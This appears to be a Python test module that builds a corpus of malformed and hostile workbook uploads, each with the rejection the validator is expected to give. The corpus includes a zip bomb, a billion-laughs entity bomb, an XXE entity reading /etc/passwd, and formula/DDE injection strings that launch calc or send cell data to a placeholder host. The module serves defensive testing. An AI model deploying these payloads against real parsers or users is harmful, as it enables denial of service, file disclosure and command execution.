"""A corpus of malformed and malicious workbooks, generated at test time (nothing binary is
committed): every validation error of SPEC §2, and the files an attacker or an unlucky
analyst uploads — bombs, entities, macros, encrypted or renamed files, empty and oversized
files, a million rows, 16,384 columns, odd sheet names, formulas and formula injection.

    .venv/bin/python -m tests.hostile.build_corpus FOLDER   # writes the files, lists them

Each case says what the product must answer: `unreadable` (UnreadableWorkbook, a French
message), `invalid` (validation errors, with the code of at least one expected problem), or
`rejected` (either, when both are honest answers for that file).
"""

from __future__ import annotations

import copy
import io
import os
import sys
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from xml.sax.saxutils import escape

import openpyxl
import xlsxwriter

from tests.workbooks import csv_bytes, minimal_sheets, xlsx_bytes

Sheets = dict[str, list[dict]]


@dataclass(frozen=True)
class Case:
    name: str
    files: tuple[str, ...]  # file names inside the case's folder
    expect: str  # "unreadable" | "invalid" | "rejected"
    codes: tuple[str, ...] = ()  # problem codes that must be among the errors
    where: tuple[str, int | None, str | None] | None = None  # one expected (sheet, row, column)
    notes: dict = field(default_factory=dict)


# --- validation errors of SPEC §2 --------------------------------------------------------------


def _mutated(change: Callable[[Sheets], None]) -> bytes:
    sheets = copy.deepcopy(minimal_sheets())
    change(sheets)
    return xlsx_bytes(sheets)


def _set(sheet: str, index: int, column: str, value: object) -> Callable[[Sheets], None]:
    def change(sheets: Sheets) -> None:
        sheets[sheet][index][column] = value

    return change


def _drop_column(sheet: str, column: str) -> Callable[[Sheets], None]:
    def change(sheets: Sheets) -> None:
        for row in sheets[sheet]:
            row.pop(column, None)

    return change


def _drop_sheet(sheet: str) -> Callable[[Sheets], None]:
    def change(sheets: Sheets) -> None:
        del sheets[sheet]

    return change


def _cycle(sheets: Sheets) -> None:
    sheets["perimetres"].append({"id": "P_A", "nom": "A", "type": "autre", "composition": "P_B"})
    sheets["perimetres"].append({"id": "P_B", "nom": "B", "type": "autre", "composition": "P_A"})


def _empty_perimeter(sheets: Sheets) -> None:
    sheets["perimetres"].append({"id": "P_VIDE", "nom": "Vide", "type": "autre"})


# (name, change, expected code, (sheet, row, column)); rows are spreadsheet rows, header = 1.
VALIDATION_CASES = [
    (
        "identifiant-acteur-en-double",
        _set("acteurs", 1, "id", "A_CC"),
        "duplicate_id",
        ("acteurs", 3, "id"),
    ),
    (
        "identifiant-perimetre-en-double",
        _set("perimetres", 1, "id", "P_EPCI"),
        "duplicate_id",
        ("perimetres", 3, "id"),
    ),
    (
        "perimetre-de-dispositif-inconnu",
        _set("dispositifs", 0, "perimetre", "P_NULLE_PART"),
        "dangling_reference",
        ("dispositifs", 2, "perimetre"),
    ),
    (
        "acteur-de-participation-inconnu",
        _set("participations", 2, "acteur", "A_FANTOME"),
        "dangling_reference",
        ("participations", 4, "acteur"),
    ),
    (
        "pilote-inconnu",
        _set("dispositifs", 1, "pilote", "A_FANTOME"),
        "dangling_reference",
        ("dispositifs", 3, "pilote"),
    ),
    (
        "ressort-inconnu",
        _set("acteurs", 2, "ressort", "P_FANTOME"),
        "dangling_reference",
        ("acteurs", 4, "ressort"),
    ),
    (
        "categorie-inconnue",
        _set("acteurs", 0, "categorie", "mairie"),
        "unknown_code",
        ("acteurs", 2, "categorie"),
    ),
    (
        "role-inconnu",
        _set("participations", 0, "role", "chef"),
        "unknown_code",
        ("participations", 2, "role"),
    ),
    (
        "commune-inconnue",
        _set("acteurs", 3, "commune", "99999"),
        "unknown_commune",
        ("acteurs", 5, "commune"),
    ),
    (
        "epci-inconnu",
        _set("perimetres", 0, "communes", "epci:999999999"),
        "unknown_epci",
        ("perimetres", 2, "communes"),
    ),
    (
        "dates-inversees",
        _set("dispositifs", 0, "fin", "01/01/2020"),
        "reversed_dates",
        ("dispositifs", 2, "fin"),
    ),
    ("cycle-de-composition", _cycle, "composition_cycle", None),
    (
        "cellule-obligatoire-vide",
        _set("acteurs", 1, "nom", None),
        "empty_required",
        ("acteurs", 3, "nom"),
    ),
    (
        "date-illisible",
        _set("dispositifs", 1, "debut", "32/13/2024"),
        "impossible_date",
        ("dispositifs", 3, "debut"),
    ),
    (
        "nombre-illisible",
        _set("acteurs", 0, "latitude", "nord"),
        "bad_number",
        ("acteurs", 2, "latitude"),
    ),
    (
        "annee-illisible",
        _set("dispositifs", 0, "annee_diagnostic", "deux mille"),
        "bad_year",
        ("dispositifs", 2, "annee_diagnostic"),
    ),
    (
        "latitude-hors-bornes",
        _set("acteurs", 0, "latitude", 123.0),
        "out_of_range",
        ("acteurs", 2, "latitude"),
    ),
    ("feuille-obligatoire-absente", _drop_sheet("dispositifs"), "missing_sheet", None),
    ("colonne-obligatoire-absente", _drop_column("acteurs", "champ"), "missing_column", None),
    ("perimetre-sans-commune", _empty_perimeter, "empty_perimeter", None),
]


# --- hand-made .xlsx packages -----------------------------------------------------------------

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
    'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
    'officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/'
    'sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.'
    'worksheet+xml"/></Types>'
)
ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'
)
WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
)
SHEET_OPEN = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    "<sheetData>"
)
SHEET_CLOSE = "</sheetData></worksheet>"


def _workbook_xml(sheet_name: str, prolog: str = "") -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        + prolog
        + '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
        f'<sheets><sheet name="{escape(sheet_name, {chr(34): "&quot;"})}" sheetId="1" '
        'r:id="rId1"/></sheets></workbook>'
    )


def _cell(reference: str, text: str) -> str:
    return f'<c r="{reference}" t="inlineStr"><is><t>{escape(text)}</t></is></c>'


def _column_letters(index: int) -> str:
    """0 → A, 16383 → XFD."""
    letters = ""
    index += 1
    while index:
        index, rest = divmod(index - 1, 26)
        letters = chr(65 + rest) + letters
    return letters


def _package(
    sheet_parts: Callable[[], object],
    *,
    sheet_name: str = "acteurs",
    workbook_prolog: str = "",
    extra: dict[str, bytes] | None = None,
    level: int = 6,
) -> bytes:
    """A one-sheet .xlsx whose sheet XML is streamed from `sheet_parts()` (str chunks)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("_rels/.rels", ROOT_RELS)
        archive.writestr("xl/workbook.xml", _workbook_xml(sheet_name, workbook_prolog))
        archive.writestr("xl/_rels/workbook.xml.rels", WORKBOOK_RELS)
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            for chunk in sheet_parts():
                sheet.write(chunk.encode())
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _rows(rows: list[list[str]]):
    def parts():
        yield SHEET_OPEN
        for number, values in enumerate(rows, start=1):
            cells = "".join(_cell(f"{_column_letters(i)}{number}", v) for i, v in enumerate(values))
            yield f'<row r="{number}">{cells}</row>'
        yield SHEET_CLOSE

    return parts


ACTOR_ROWS = [["id", "nom", "categorie", "champ"], ["A1", "Mairie", "collectivite", "social"]]


def zip_bomb() -> bytes:
    """60 MB of blanks deflated to ~60 kB: a ratio of ~1,000."""

    def parts():
        yield SHEET_OPEN
        blank = " " * 1_000_000
        for _ in range(60):
            yield blank
        yield SHEET_CLOSE

    return _package(parts, level=9)


def too_many_members() -> bytes:
    extra = {f"xl/media/image{i}.png": b"x" for i in range(6_000)}
    return _package(_rows(ACTOR_ROWS), extra=extra)


def _laughs(level: int) -> str:
    """`&lol;` ten times at level 1, `&lol1;` ten times at level 2…: 10⁹ « lol » at level 9."""
    previous = "lol" if level == 1 else f"lol{level - 1}"
    return f'<!ENTITY lol{level} "{f"&{previous};" * 10}">'


BILLION_LAUGHS = '<!DOCTYPE lolz [<!ENTITY lol "lol">' + "".join(map(_laughs, range(1, 10))) + "]>"


def entity_bomb() -> bytes:
    def parts():
        yield SHEET_OPEN.replace("<worksheet", BILLION_LAUGHS + "<worksheet", 1)
        yield '<row r="1">' + _cell("A1", "id") + '</row><row r="2"><c r="A2" t="inlineStr">'
        yield "<is><t>&lol9;</t></is></c></row>"
        yield SHEET_CLOSE

    return _package(parts)


def external_entity() -> bytes:
    prolog = '<!DOCTYPE workbook [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'

    def parts():
        yield SHEET_OPEN.replace("<worksheet", prolog + "<worksheet", 1)
        yield '<row r="1">' + _cell("A1", "id") + '</row><row r="2"><c r="A2" t="inlineStr">'
        yield "<is><t>&xxe;</t></is></c></row>"
        yield SHEET_CLOSE

    return _package(parts, workbook_prolog=prolog)


def with_macros() -> bytes:
    return _package(_rows(ACTOR_ROWS), extra={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" * 64})


def encrypted() -> bytes:
    """What Excel writes for a password-protected .xlsx: an OLE compound file."""
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 16 + b"\x3e\x00\x03\x00\xfe\xff"
    body = "EncryptionInfo EncryptedPackage".encode("utf-16-le")
    return header + b"\x00" * (512 - len(header)) + body + b"\x00" * 4096


def sparse_million_rows() -> bytes:
    """Headers on row 1 and one cell on the last row Excel allows (1,048,576)."""

    def parts():
        yield SHEET_OPEN
        yield (
            '<row r="1">'
            + "".join(_cell(f"{_column_letters(i)}1", v) for i, v in enumerate(ACTOR_ROWS[0]))
            + "</row>"
        )
        yield '<row r="1048576">' + _cell("A1048576", "A_LOIN") + "</row>"
        yield SHEET_CLOSE

    return _package(parts)


def million_empty_rows() -> bytes:
    """1,000,000 `<row>` elements each with one empty cell, deflated to ~2 MB."""

    def parts():
        yield SHEET_OPEN
        yield '<row r="1">' + _cell("A1", "id") + _cell("B1", "nom") + "</row>"
        batch = []
        for number in range(2, 1_000_002):
            batch.append(
                f'<row r="{number}"><c r="A{number}" t="inlineStr"><is><t></t></is></c></row>'
            )
            if len(batch) == 50_000:
                yield "".join(batch)
                batch = []
        yield "".join(batch)
        yield SHEET_CLOSE

    return _package(parts, level=9)


def all_columns() -> bytes:
    """A header row 16,384 cells wide (A … XFD), then one row of data."""
    headers = [f"colonne {i}" for i in range(16_384)]
    return _package(_rows([headers, ["A1", "Mairie", "collectivite", "social"]]))


def quoted_sheet_name() -> bytes:
    sheets = copy.deepcopy(minimal_sheets())
    sheets['L’équipe "projet" d\'acteurs'] = sheets.pop("acteurs")
    return xlsx_bytes(sheets)


def formulas() -> bytes:
    """Formulas never evaluated: no cached value, a DDE call, a web request, a reference."""
    workbook = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(minimal_sheets())))
    schemes = workbook["dispositifs"]
    schemes["D2"] = '="P_"&"EPCI"'
    schemes["A3"] = '=WEBSERVICE("http://127.0.0.1:9/fuite")'
    actors = workbook["acteurs"]
    actors["B2"] = "=cmd|' /C calc'!A0"
    actors["A5"] = "=A2"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


INJECTIONS = [
    '=HYPERLINK("http://exemple.invalid/?d="&A1,"Cliquez")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
]


def formula_injection() -> bytes:
    """Injection strings in free-text cells, and in coded cells where they are errors."""
    sheets = copy.deepcopy(minimal_sheets())
    for row, text in zip(sheets["acteurs"], INJECTIONS, strict=False):
        row["nom"] = text
        row["type"] = text
    sheets["blocages"][0]["description"] = INJECTIONS[0]
    sheets["acteurs"][0]["categorie"] = INJECTIONS[1]
    sheets["participations"][0]["role"] = INJECTIONS[3]
    sheets["dispositifs"][0]["perimetre"] = INJECTIONS[2]
    return _text_xlsx(sheets)


def _text_xlsx(sheets: Sheets) -> bytes:
    """Like tests/workbooks.xlsx_bytes, but `=…` strings stay text cells (openpyxl would write
    them as formulas): this is what a tableur saves when a user types '=HYPERLINK(…)."""
    buffer = io.BytesIO()
    with xlsxwriter.Workbook(
        buffer, {"strings_to_formulas": False, "strings_to_numbers": False}
    ) as workbook:
        for name, rows in sheets.items():
            sheet = workbook.add_worksheet(name)
            headers = list(dict.fromkeys(key for row in rows for key in row))
            sheet.write_row(0, 0, headers)
            for number, row in enumerate(rows, start=1):
                for column, header in enumerate(headers):
                    if (value := row.get(header)) is not None:
                        sheet.write_string(number, column, str(value))
    return buffer.getvalue()


def big_file() -> bytes:
    """A real workbook carrying 50 MB of incompressible media."""
    buffer = io.BytesIO(xlsx_bytes(minimal_sheets()))
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_STORED) as archive:
        archive.writestr("xl/media/image1.png", os.urandom(50 * 1024 * 1024))
    return buffer.getvalue()


def truncated() -> bytes:
    data = xlsx_bytes(minimal_sheets())
    return data[: len(data) // 2]


def zip_in_zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("classeur.xlsx", xlsx_bytes(minimal_sheets()))
    return buffer.getvalue()


def csv_files(folder: Path) -> tuple[str, ...]:
    """Several .csv files (one sheet each) whose references do not meet."""
    sheets = minimal_sheets()
    sheets["participations"][0]["dispositif"] = "D_FANTOME"
    names = []
    for name, rows in sheets.items():
        (folder / f"{name}.csv").write_bytes(csv_bytes(rows))
        names.append(f"{name}.csv")
    return tuple(names)


# (file name, builder, expect, codes)
FILE_CASES: list[tuple[str, Callable[[], bytes], str, tuple[str, ...]]] = [
    ("bombe-zip.xlsx", zip_bomb, "unreadable", ()),
    ("6000-elements.xlsx", too_many_members, "unreadable", ()),
    ("bombe-entites-xml.xlsx", entity_bomb, "unreadable", ()),
    ("entite-externe-xxe.xlsx", external_entity, "unreadable", ()),
    ("macros.xlsm", with_macros, "unreadable", ()),
    ("macros-renomme.xlsx", with_macros, "unreadable", ()),
    ("protege-par-mot-de-passe.xlsx", encrypted, "unreadable", ()),
    ("csv-renomme.xlsx", lambda: csv_bytes(minimal_sheets()["acteurs"]), "unreadable", ()),
    ("vide.xlsx", lambda: b"", "unreadable", ()),
    ("50-mo.xlsx", big_file, "unreadable", ()),
    ("tronque.xlsx", truncated, "unreadable", ()),
    ("zip-dans-zip.xlsx", zip_in_zip, "unreadable", ()),
    ("programme.exe", lambda: b"MZ\x90\x00" + b"\x00" * 1024, "unreadable", ()),
    ("faux.ods", lambda: os.urandom(4096), "unreadable", ()),
    ("ligne-1048576.xlsx", sparse_million_rows, "rejected", ()),
    ("1000000-lignes-vides.xlsx", million_empty_rows, "rejected", ()),
    ("16384-colonnes.xlsx", all_columns, "rejected", ()),
    ("feuille-avec-guillemets.xlsx", quoted_sheet_name, "invalid", ("missing_sheet",)),
    ("formules.xlsx", formulas, "invalid", ("dangling_reference",)),
    ("injection-de-formules.xlsx", formula_injection, "invalid", ("unknown_code",)),
    ("binaire.csv", lambda: os.urandom(2048), "rejected", ()),
]


def build_corpus(folder: Path) -> list[Case]:
    """Write every case under `folder` (one sub-folder each); return the cases."""
    folder.mkdir(parents=True, exist_ok=True)
    cases = []
    for name, change, code, where in VALIDATION_CASES:
        place = folder / name
        place.mkdir()
        (place / f"{name}.xlsx").write_bytes(_mutated(change))
        cases.append(Case(name, (f"{name}.xlsx",), "invalid", (code,), where))
    for file_name, builder, expect, codes in FILE_CASES:
        name = Path(file_name).stem + Path(file_name).suffix.replace(".", "-")
        place = folder / name
        place.mkdir()
        (place / file_name).write_bytes(builder())
        cases.append(Case(name, (file_name,), expect, codes))
    place = folder / "csv-references-cassees"
    place.mkdir()
    cases.append(
        Case(
            place.name,
            csv_files(place),
            "invalid",
            ("dangling_reference",),
            ("participations", 2, "dispositif"),
        )
    )
    return cases


def main(argv: list[str]) -> int:
    folder = Path(argv[0]) if argv else Path("test-artifacts/corpus")
    for case in build_corpus(folder):
        sizes = sum((folder / case.name / f).stat().st_size for f in case.files)
        print(f"{case.name:40} {case.expect:10} {sizes:>12,} octets")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
